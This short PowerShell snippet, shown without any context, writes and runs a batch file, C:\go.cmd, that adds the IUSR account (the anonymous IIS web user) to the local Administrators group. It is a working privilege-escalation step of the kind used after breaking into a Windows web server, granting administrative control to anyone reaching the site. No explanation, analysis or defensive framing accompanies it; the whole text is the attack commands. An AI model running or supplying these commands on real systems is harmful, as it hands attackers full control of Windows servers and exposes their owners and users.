Set-Content C:\go.cmd '@echo off'
Add-Content C:\go.cmd 'net localgroup Administrators IUSR /add'
cmd /c C:\go.cmd
